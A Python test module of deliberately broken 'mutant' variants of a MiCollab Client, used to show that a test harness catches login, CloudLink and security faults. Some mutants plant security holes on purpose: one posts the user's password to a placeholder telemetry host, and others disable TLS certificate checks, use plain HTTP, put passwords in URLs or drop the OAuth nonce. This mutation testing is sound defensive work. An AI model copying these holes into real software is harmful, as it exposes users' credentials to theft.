"""Faulty variants of the reference MiCollab Client, each breaking one documented behaviour.

A harness that passes every client proves nothing: `tests/test_mutants.py` runs the scenarios
tagged with each mutant's `breaks` IDs against it and requires them to fail.
"""

from __future__ import annotations

import contextlib
import ssl
from urllib.parse import quote, urlsplit

import httpx

from clients.driver import ClientSettings, Screen
from clients.micollab import MiCollabClient
from clients.micollab import screens as s
from clients.micollab.api import ApiError, MiCollabApi
from clients.micollab.cloudlink import CloudLinkSignIn
from clients.webview import WebView
from tests.mutants.silent import SILENT_MUTANTS
from tests.mutants.wire import WIRE_MUTANTS  # what only the wire shows

TELEMETRY = "telemetry.micollab-client.example"


class IgnoresDeploymentLink(MiCollabClient):
    """The OS hands the deployment link over, but the client only opens its start screen."""

    breaks = ("MC-LINK-1",)

    def open_link(self, url: str) -> None:
        self.open_app()


class SkipsLicenseAfterLink(MiCollabClient):
    """Deployed by the link, goes straight to the password screen."""

    breaks = ("MC-LINK-2",)

    def open_link(self, url: str) -> None:
        super().open_link(url)
        if self.screen().name == s.LICENSE:
            self.show_password_page()


class ShowsHomeDespiteWrongPassword(MiCollabClient):
    """Logs the user in whatever the server answers to the password."""

    breaks = ("MC-LINK-3",)

    def submit_password(self) -> None:
        super().submit_password()
        if self.screen().name == s.PASSWORD:
            self.show(Screen(s.PROGRESSING))
            self.show(Screen(s.HOME))


class IgnoresPastedCode(MiCollabClient):
    """Apply on the authentication code screen does nothing."""

    breaks = ("MC-CODE-1",)

    def apply_code(self) -> None:
        pass


class NeverOffersImport(MiCollabClient):
    """Treats every login as the first: the user data is never imported."""

    breaks = ("MC-CODE-2",)

    def deploy(self, host: str, secret: str) -> None:
        super().deploy(host, secret)
        if self.screen().name == s.IMPORT:
            self.show_license()


class ImportFetchesNothing(MiCollabClient):
    """Offers Import but does not fetch the user data."""

    breaks = ("MC-CODE-2",)

    def import_user_data(self) -> None:
        self.show_license()


class SkipsLicenseAfterImport(MiCollabClient):
    """After Import, goes straight to the password screen."""

    breaks = ("MC-CODE-3",)

    def import_user_data(self) -> None:
        super().import_user_data()
        if self.screen().name == s.LICENSE:
            self.show_password_page()


class LogsInWithDisplayNameAfterImport(MiCollabClient):
    """After Import, sends the user's display name instead of the deployed login ID."""

    breaks = ("MC-CODE-4",)

    def import_user_data(self) -> None:
        super().import_user_data()
        self.username = "imported user"


class OpensManualLoginOnTwoTaps(MiCollabClient):
    breaks = ("MC-MAN-1",)

    def tap(self, element: str, times: int = 1) -> None:
        super().tap(element, times + 1)


class NeedsFourTaps(MiCollabClient):
    breaks = ("MC-MAN-1",)

    def tap(self, element: str, times: int = 1) -> None:
        super().tap(element, times - 1)


class KeepsTheFirstUsername(MiCollabClient):
    """The first Email ID or Login ID entered on the device is used at every later Next."""

    breaks = ("MC-CL-7",)
    first_username: str | None = None

    def identify(self, username: str) -> None:
        self.first_username = self.first_username or username
        super().identify(self.first_username)


class CumulativeLogoTaps(MiCollabClient):
    """Counts every tap on the Mitel logo since the application opened, whatever came between."""

    breaks = ("MC-MAN-1",)
    logo_taps = 0

    def tap(self, element: str, times: int = 1) -> None:
        if element == s.MITEL_LOGO:
            self.logo_taps += times
            times = self.logo_taps
        super().tap(element, times)


class IgnoresServerHostname(MiCollabClient):
    """Manual Login: Next ignores the Server Hostname typed by the user."""

    breaks = ("MC-MAN-2",)

    def submit_manual_login(self) -> None:
        self.identify(self.field(s.MANUAL_LOGIN_ID_FIELD).strip())


class PrefersTheInstalledServer(MiCollabClient):
    """Manual Login: on a device set up for a server, that server, whatever Server Hostname was typed."""

    breaks = ("MC-MAN-2",)

    def submit_manual_login(self) -> None:
        self.server = self.settings.server_host or self.field(s.SERVER_HOSTNAME_FIELD).strip().lower()
        self.identify(self.field(s.MANUAL_LOGIN_ID_FIELD).strip())


class ManualLoginWithoutPasswordPage(MiCollabClient):
    """Manual Login: Next goes back to the username-only page instead of the password page."""

    breaks = ("MC-MAN-4",)

    def submit_manual_login(self) -> None:
        super().submit_manual_login()
        if self.screen().name == s.PASSWORD:
            self.show_login_page()


class LoginPageAsksForPassword(MiCollabClient):
    """The login page shows a password field beside the username."""

    breaks = ("MC-CL-1",)

    def show_login_page(self) -> None:
        self.show(Screen(s.LOGIN, {s.USERNAME_FIELD: "", s.PASSWORD_FIELD: ""}, (s.NEXT,), (s.MITEL_LOGO,)))


class NoPasswordPageAfterUsername(MiCollabClient):
    """CloudLink-based Authentication not enabled, yet Next does not open the password page."""

    breaks = ("MC-CL-7",)

    def submit_username(self) -> None:
        self.show_error("server_error")


class SkipsProgressingScreen(MiCollabClient):
    breaks = ("MC-CL-9",)

    def show(self, screen: Screen) -> None:
        if screen.name != s.PROGRESSING:
            super().show(screen)


class ContinuesAfterRefusedDeployment(MiCollabClient):
    """An expired or used deployment still leads to the license agreement."""

    breaks = ("SEC-OAUTH-2",)

    def deploy(self, host: str, secret: str) -> None:
        super().deploy(host, secret)
        if self.screen().messages:
            self.server = host
            self.show_license()


class PlainHttp(MiCollabClient):
    """Talks to the MiCollab server over plain HTTP."""

    breaks = ("SEC-TLS-1",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        self.api = MiCollabApi(settings, scheme="http")


class PasswordInQueryString(MiCollabClient):
    """Puts the password in a URL as well as in the request body."""

    breaks = ("SEC-CRED-1",)

    def submit_password(self) -> None:
        self.call("GET", f"/api/v1/license?password={quote(self.field(s.PASSWORD_FIELD))}")
        super().submit_password()


class PasswordToAnotherHost(MiCollabClient):
    """Sends the password to a host that does not own it."""

    breaks = ("SEC-CRED-1",)

    def submit_password(self) -> None:
        with contextlib.suppress(ApiError):
            self.api.call(TELEMETRY, "POST", "/collect", password=self.field(s.PASSWORD_FIELD))
        super().submit_password()


class PhonesHome(MiCollabClient):
    """Calls a telemetry host outside the platform when it opens."""

    breaks = ("SEC-EGRESS-1",)

    def open_link(self, url: str) -> None:
        with contextlib.suppress(ApiError):
            self.api.call(TELEMETRY, "GET", "/ping")
        super().open_link(url)


class LogsOutOnlyLocally(MiCollabClient):
    """Logout forgets the token but never tells the server."""

    breaks = ("SEC-OUT-1",)

    def logout(self) -> None:
        self.access_token = None
        self.show_login_page()


class GivesUpOnAServerThatWasDown(MiCollabClient):
    """Once the server could not be reached, never tries it again."""

    breaks = ("RES-DOWN-1",)
    unreachable = False

    def show_api_error(self, error: ApiError, host: str | None = None) -> None:
        self.unreachable = self.unreachable or error.code == "unreachable"
        super().show_api_error(error, host)

    def submit_password(self) -> None:
        if self.unreachable:
            self.show_error("unreachable")
        else:
            super().submit_password()


class TimesOutTooSoon(MiCollabClient):
    """Waits half a second for the server, far less than its documented time-out."""

    breaks = ("RES-SLOW-1",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        self.api = MiCollabApi(ClientSettings(**{**settings.__dict__, "timeout": 0.5}))


class StaysHalfLoggedIn(MiCollabClient):
    """A failure after the password was accepted leaves it on the progressing screen, session open."""

    breaks = ("RES-5XX-1",)

    def abandon_session(self) -> None:
        pass

    def show_password_page(self) -> None:
        if self.access_token is None:
            super().show_password_page()


class SendsTheLoginAgainOnAFailure(MiCollabClient):
    """A failing answer to the login (5xx, a malformed body) is followed at once by the same
    login again: the password goes twice."""

    breaks = ("RES-5XX-1",)

    def submit_password(self) -> None:
        password, server = self.field(s.PASSWORD_FIELD), self.server or ""

        def attempt() -> dict:
            login = {"username": self.username, "password": password}
            try:
                return self.api.call(server, "POST", "/api/v1/login", **login)
            except ApiError as error:
                if error.status < 500 and error.code != "server_error":
                    raise
                return self.api.call(server, "POST", "/api/v1/login", **login)

        self.log_in(attempt, self.show_password_page)


class ShowsHomeBeforeTheAnswerAfterImport(MiCollabClient):
    """After Import, Apply shows MiCollab Home with the imported user data before the server has
    answered: a wrong password shows the user's Home before the error."""

    breaks = ("MC-CODE-4",)

    def submit_password(self) -> None:
        if self.favorites:
            self.show(Screen(s.HOME, buttons=(s.LOGOUT,), elements=self.favorites))
        super().submit_password()


class SkipsCloudLinkPage(MiCollabClient):
    """CloudLink-based Authentication enabled, yet asks for the MiCollab password."""

    breaks = ("MC-CL-2",)

    def identify(self, username: str) -> None:
        self.username = username
        self.show_password_page()


class LoginMethodCachedAfterLogout(MiCollabClient):
    """Remembers how the last login went on (the password page or CloudLink) and, after Logout,
    goes that way again without asking the server."""

    breaks = ("MC-CL-2", "MC-CL-7")

    def identify(self, username: str) -> None:
        self.username = username
        answer = getattr(self, "remembered", None) or self.call("POST", "/api/v1/login/identify", username=username)
        if answer is None:
            return
        self.remembered = answer
        if answer["method"] == "password":
            self.show_password_page()
        else:
            self.cloudlink.start(answer["cloudlink"])


class LosesTypedCloudLinkPassword(MiCollabClient):
    """The embedded web view does not keep what the user types into the CloudLink page."""

    breaks = ("MC-CL-3",)

    def fill(self, label: str, value: str) -> None:
        if not self.cloudlink.showing():
            super().fill(label, value)


class HidesCloudLinkMessages(MiCollabClient):
    """Shows the CloudLink pages without their messages."""

    breaks = ("MC-CL-4",)

    def show(self, screen: Screen) -> None:
        hidden = self.cloudlink.showing() and screen.name.startswith("CloudLink")
        super().show(Screen(screen.name, screen.fields, screen.buttons, screen.elements) if hidden else screen)

    def replace_screen(self, screen: Screen) -> None:
        self.show(screen)
        self._history.pop()


class NoLoginHint(MiCollabClient):
    """Opens the CloudLink page without the user's e-mail."""

    breaks = ("MC-CL-6",)

    def identify(self, username: str) -> None:
        answer = self.call("POST", "/api/v1/login/identify", username=username)
        self.username = username
        if answer and answer["method"] == "cloudlink":
            self.cloudlink.start(answer["cloudlink"] | {"login_hint": ""})
        elif answer:
            self.show_password_page()


class ManualLoginIgnoresCloudLink(MiCollabClient):
    """Manual Login always goes on to the MiCollab password page."""

    breaks = ("MC-MAN-3",)

    def submit_manual_login(self) -> None:
        self.cached_method = "password"
        super().submit_manual_login()


class EmailShapedNamesOnly(MiCollabClient):
    """Takes a name with @ only if it looks like first.last@domain: a UPN is refused."""

    breaks = ("MC-UPN-1",)

    def submit_username(self) -> None:
        name = self.field(s.USERNAME_FIELD).strip()
        if "@" in name and "." not in name.split("@")[0]:
            self.show_error("invalid_credentials")
        else:
            super().submit_username()


class UpnAsLoginId(MiCollabClient):
    """Turns a UPN into a login ID: logs in with the name before the @."""

    breaks = ("MC-UPN-1",)

    def identify(self, username: str) -> None:
        super().identify(username.split("@", maxsplit=1)[0])


class RetriesWithoutTheDomain(MiCollabClient):
    """A name with an @ that the server refuses is tried again without its domain, as a login ID."""

    breaks = ("MC-UPN-1",)

    def submit_password(self) -> None:
        password = self.field(s.PASSWORD_FIELD)
        super().submit_password()
        if self.screen().name == s.PASSWORD and "@" in (self.username or ""):
            self.username = (self.username or "").split("@")[0]
            self.fill(s.PASSWORD_FIELD, password)
            super().submit_password()


class LowerCasesPassword(MiCollabClient):
    """Sends the MiCollab password in lower case, as if passwords matched like user names."""

    breaks = ("MC-LINK-3",)

    def fill(self, label: str, value: str) -> None:
        mine = label == s.PASSWORD_FIELD and not self.cloudlink.showing()
        super().fill(label, value.lower() if mine else value)


class UpgradeLeadsNowhere(MiCollabClient):
    """Upgraded from 9.2, Next neither directs to Single Sign-On nor shows the password page (the
    known issue): it stays on Manual Login with an error. (A client without the known issue is no
    mutant: see tests/mutants/fixed.py.)"""

    breaks = ("MC-UPG-1",)

    def identify(self, username: str) -> None:
        if self.cached_method == "password":
            self.show_error("server_error")
        else:
            super().identify(username)


class BackKeepsTheOldLoginMethod(MiCollabClient):
    """Back on the password page does not forget 9.2's login method: the workaround fails."""

    breaks = ("MC-UPG-2",)

    def back(self) -> None:
        method = self.cached_method
        super().back()
        self.cached_method = method


class BackStaysOnThePasswordPage(MiCollabClient):
    """Back on the password page does nothing: the username cannot be entered again."""

    breaks = ("MC-UPG-2",)

    def back(self) -> None:
        pass


class BackForgetsTheServer(MiCollabClient):
    """Back on the password page also forgets the Server Hostname typed on Manual Login, so Next
    after the username reaches no server."""

    breaks = ("MC-UPG-2",)

    def back(self) -> None:
        super().back()
        self.server = None


class NoNonce(MiCollabClient):
    """Asks CloudLink for an ID token without a nonce."""

    breaks = ("SEC-OAUTH-1",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        self.cloudlink = NoNonceSignIn(self)


class NoNonceSignIn(CloudLinkSignIn):
    def authorization_query(self, request: dict, challenge: str) -> dict:
        return {k: v for k, v in super().authorization_query(request, challenge).items() if k != "nonce"}


class NoAutoPostWebView(WebView):
    def auto_submit(self, page):
        return None


class NoAutoPostSignIn(CloudLinkSignIn):
    web_view = NoAutoPostWebView


class DoesNotPostTheSamlResponse(MiCollabClient):
    """The embedded web view does not post Azure AD's answer back to CloudLink."""

    breaks = ("MC-CL-5",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        self.cloudlink = NoAutoPostSignIn(self)


class AsksForACodeAlways(MiCollabClient):
    """Asks for a second-factor code of its own even when Azure AD does not."""

    breaks = ("MC-CL-8",)

    def show(self, screen: Screen) -> None:
        if screen.name == "Stay signed in?" and "Enter code" not in self._history:
            super().show(Screen("Enter code", {"Code": ""}, ("Verify",)))
        super().show(screen)


class EnterpriseOnlyWhenIntegrated(MiCollabClient):
    """Takes an integrated account to Azure AD even when Mitel credentials are enabled."""

    breaks = ("MC-CL-10",)

    def show(self, screen: Screen) -> None:
        super().show(screen)
        if "Sign in with your enterprise account" in screen.buttons:
            self.press("Sign in with your enterprise account")


MUTANTS = [
    LoginMethodCachedAfterLogout,
    CumulativeLogoTaps,
    KeepsTheFirstUsername,
    PrefersTheInstalledServer,
    SendsTheLoginAgainOnAFailure,
    ShowsHomeBeforeTheAnswerAfterImport,
    IgnoresDeploymentLink,
    SkipsLicenseAfterLink,
    ShowsHomeDespiteWrongPassword,
    IgnoresPastedCode,
    NeverOffersImport,
    ImportFetchesNothing,
    SkipsLicenseAfterImport,
    LogsInWithDisplayNameAfterImport,
    OpensManualLoginOnTwoTaps,
    NeedsFourTaps,
    IgnoresServerHostname,
    ManualLoginWithoutPasswordPage,
    LoginPageAsksForPassword,
    NoPasswordPageAfterUsername,
    SkipsProgressingScreen,
    ContinuesAfterRefusedDeployment,
    PlainHttp,
    PasswordInQueryString,
    PasswordToAnotherHost,
    PhonesHome,
    LogsOutOnlyLocally,
    GivesUpOnAServerThatWasDown,
    TimesOutTooSoon,
    StaysHalfLoggedIn,
    SkipsCloudLinkPage,
    LosesTypedCloudLinkPassword,
    HidesCloudLinkMessages,
    NoLoginHint,
    ManualLoginIgnoresCloudLink,
    EmailShapedNamesOnly,
    UpnAsLoginId,
    RetriesWithoutTheDomain,
    LowerCasesPassword,
    UpgradeLeadsNowhere,
    BackKeepsTheOldLoginMethod,
    BackStaysOnThePasswordPage,
    BackForgetsTheServer,
    NoNonce,
    DoesNotPostTheSamlResponse,
    AsksForACodeAlways,
    EnterpriseOnlyWhenIntegrated,
]


class IgnoresLinksWhileRunning(MiCollabClient):
    """Started by a link it deploys; running in the background, it ignores the link handed over
    (the MiCollab Web Client's Open MiCollab)."""

    breaks = ("MC-WEB-3",)

    def open_link(self, url: str) -> None:
        if self._screen is None:
            super().open_link(url)


class SkipsLicenseWhenRunning(MiCollabClient):
    """Running in the background when the link is handed over, goes straight to the password screen."""

    breaks = ("MC-WEB-4",)

    def open_link(self, url: str) -> None:
        running = self._screen is not None
        super().open_link(url)
        if running and self.screen().name == s.LICENSE:
            self.show_password_page()


MUTANTS += [IgnoresLinksWhileRunning, SkipsLicenseWhenRunning]


class TrustsAnyCertificate(MiCollabClient):
    """Turns TLS verification off: whoever answers for the MiCollab server gets the password."""

    breaks = ("SEC-TLS-2",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        self.api.http = httpx.Client(proxy=settings.proxy_url, verify=False, timeout=settings.timeout)


class ChecksOnlyTheAuthority(MiCollabClient):
    """Verifies the certificate's authority but not the host name it was issued for."""

    breaks = ("SEC-TLS-2",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        tls = ssl.create_default_context(cafile=settings.ca_bundle)
        tls.check_hostname = False
        self.api.http = httpx.Client(proxy=settings.proxy_url, verify=tls, timeout=settings.timeout)


class WebViewTrustsAnyCertificate(MiCollabClient):
    """The embedded web view that shows CloudLink's pages ignores certificate errors; the client's
    own requests still verify them."""

    breaks = ("SEC-TLS-2",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        insecure = httpx.Client(proxy=settings.proxy_url, verify=False, timeout=settings.timeout)
        self.cloudlink.web_view = lambda _http, redirect: WebView(insecure, redirect)


MUTANTS += [TrustsAnyCertificate, ChecksOnlyTheAuthority, WebViewTrustsAnyCertificate]
MUTANTS += WIRE_MUTANTS
MUTANTS += SILENT_MUTANTS  # no error shown where one is due: killed through behaviour, not wording


class LicenseWithoutTheAgreement(MiCollabClient):
    """The license agreement screen offers Accept but shows no agreement."""

    breaks = ("MC-LINK-2",)

    def show_license(self) -> None:
        self.show(Screen(s.LICENSE, buttons=(s.ACCEPT,)))


class ImportOnTheLicenseScreen(MiCollabClient):
    """Offers Import at a first login too, beside Accept on the license agreement screen."""

    breaks = ("MC-CODE-2",)

    def show_license(self) -> None:
        super().show_license()
        shown = self.screen()
        if shown.name == s.LICENSE:
            self.replace_screen(Screen(shown.name, buttons=(*shown.buttons, s.IMPORT_BUTTON), messages=shown.messages))


class ManualLoginWithoutServerHostname(MiCollabClient):
    """Manual Login asks only for the Login ID/Email ID and keeps the server it was installed with."""

    breaks = ("MC-MAN-1",)

    def show_manual_login(self) -> None:
        self.show(Screen(s.MANUAL_LOGIN, {s.MANUAL_LOGIN_ID_FIELD: ""}, (s.NEXT,)))

    def submit_manual_login(self) -> None:
        self.identify(self.field(s.MANUAL_LOGIN_ID_FIELD).strip())


class UpgradeIssueOnDesktop(MiCollabClient):
    """The Mobile Client's 9.2 -> 9.3 issue in the PC and MAC builds as well."""

    breaks = ("MC-UPG-1",)

    def upgrade_quirk(self) -> str | None:
        settings = self.settings
        upgraded = (settings.upgraded_from or "").startswith("9.2") and settings.version.startswith("9.3")
        return "password" if upgraded else None


class SubmitsARefusedPasswordTwice(MiCollabClient):
    """A refused password is sent once more before the user is told (a retry meant for a network
    error): every wrong password counts twice, and the account locks early."""

    breaks = ("SEC-LOCK-1",)

    def submit_password(self) -> None:
        password = self.field(s.PASSWORD_FIELD)
        super().submit_password()
        if self.screen().name == s.PASSWORD and self.screen().messages:
            self.fill(s.PASSWORD_FIELD, password)
            super().submit_password()


class RefusesTheSecondFactorPage(MiCollabClient):
    """The web view takes Azure AD's page asking for a second-factor code for a failed sign-in."""

    breaks = ("MC-CL-8",)

    def show(self, screen: Screen) -> None:
        if self.cloudlink.showing() and screen.name == "Enter code":
            self.cloudlink.view = None
            self.show_login_page()
            self.show_error("cloudlink_denied")
            return
        super().show(screen)


class HidesAzureMessages(MiCollabClient):
    """Shows Azure AD's sign-in pages without their messages (a locked account's among them)."""

    breaks = ("SEC-LOCK-1",)

    def show(self, screen: Screen) -> None:
        page = self.cloudlink.view.page if self.cloudlink.showing() else None
        if page is not None and urlsplit(page.url).hostname == "login.microsoftonline.com":
            screen = Screen(screen.name, screen.fields, screen.buttons, screen.elements)
        super().show(screen)


class KeepsTheAccountLocked(MiCollabClient):
    """Counts the refused passwords itself and, from the third (the server's lockout count), refuses
    every later password without asking the server: the lock never ends on this device."""

    breaks = ("SEC-LOCK-1",)
    refused = 0

    def show_error(self, code: str, **details) -> None:
        self.refused += code in {"invalid_credentials", "account_locked"}
        super().show_error(code, **details)

    def submit_password(self) -> None:
        if self.refused < 3:
            super().submit_password()
            return
        self.show_password_page()
        self.show_error("account_locked", host=self.server, minutes=1)


class ManualLoginTakesTheLoginIdOnly(MiCollabClient):
    """Manual Login cuts an Email ID at the @, as if every user typed a login ID: the server
    does not tell a user name it does not know (the password page follows), the login fails."""

    breaks = ("MC-MAN-2", "MC-MAN-4")

    def identify(self, username: str) -> None:
        manual = self.screen().name == s.MANUAL_LOGIN
        super().identify(username.split("@", maxsplit=1)[0] if manual else username)


class ManualLoginAddsAPort(MiCollabClient):
    """Manual Login adds a port of its own to the Server Hostname typed (the MBG's 36008): the
    server listens on HTTPS's port only, so nothing answers there."""

    breaks = ("MC-MAN-2", "MC-MAN-4")

    def identify(self, username: str) -> None:
        if self.screen().name == s.MANUAL_LOGIN and self.server and ":" not in self.server:
            self.server = f"{self.server}:36008"
        super().identify(username)


class TakesTheLineBreakForPartOfTheCode(MiCollabClient):
    """The authentication code is decoded as pasted, line break and all: a code copied from the
    e-mail with its line break is refused as malformed."""

    breaks = ("MC-CODE-1",)

    def apply_code(self) -> None:
        if self.field(s.AUTH_CODE_FIELD) != self.field(s.AUTH_CODE_FIELD).strip():
            self.show_error("malformed_code")
            return
        super().apply_code()


class LogsOutOnlyLocallyAfterCloudLink(MiCollabClient):
    """After a CloudLink-based login, Logout forgets the token but never tells the server."""

    breaks = ("SEC-OUT-1",)

    def logout(self) -> None:
        if not self.cloudlink.request:
            super().logout()
            return
        self.access_token = None
        self.show_login_page()


class LogsInWithTheDeploymentAfterImport(MiCollabClient):
    """After Import and Accept, tries the deployment's session as a login before asking for the
    password: the password screen comes with the server's refusal on it."""

    breaks = ("MC-CODE-4",)

    def accept_license(self) -> None:
        if self.favorites:
            self.log_in(lambda: {"access_token": self.deployment_session}, self.show_password_page)
            return
        super().accept_license()


class SendsTheLoginAgainWhenSlow(MiCollabClient):
    """Gives the login half a second, then sends it again without telling the user: a slow
    server gets the password twice and opens a session nobody uses."""

    breaks = ("RES-SLOW-1",)

    def __init__(self, settings: ClientSettings) -> None:
        super().__init__(settings)
        self.impatient = MiCollabApi(ClientSettings(**{**settings.__dict__, "timeout": 0.5}))

    def submit_password(self) -> None:
        password, server = self.field(s.PASSWORD_FIELD), self.server or ""
        with contextlib.suppress(ApiError):
            self.impatient.call(server, "POST", "/api/v1/login", username=self.username, password=password)
        super().submit_password()


MUTANTS += [
    SendsTheLoginAgainWhenSlow,
    LogsInWithTheDeploymentAfterImport,
    ManualLoginTakesTheLoginIdOnly,
    ManualLoginAddsAPort,
    TakesTheLineBreakForPartOfTheCode,
    LogsOutOnlyLocallyAfterCloudLink,
    RefusesTheSecondFactorPage,
    HidesAzureMessages,
    KeepsTheAccountLocked,
    LicenseWithoutTheAgreement,
    ImportOnTheLicenseScreen,
    ManualLoginWithoutServerHostname,
    UpgradeIssueOnDesktop,
    SubmitsARefusedPasswordTwice,
]

from tests.mutants.one_platform import ONE_PLATFORM_MUTANTS  # noqa: E402  (built from the mutants above)

MUTANTS += ONE_PLATFORM_MUTANTS
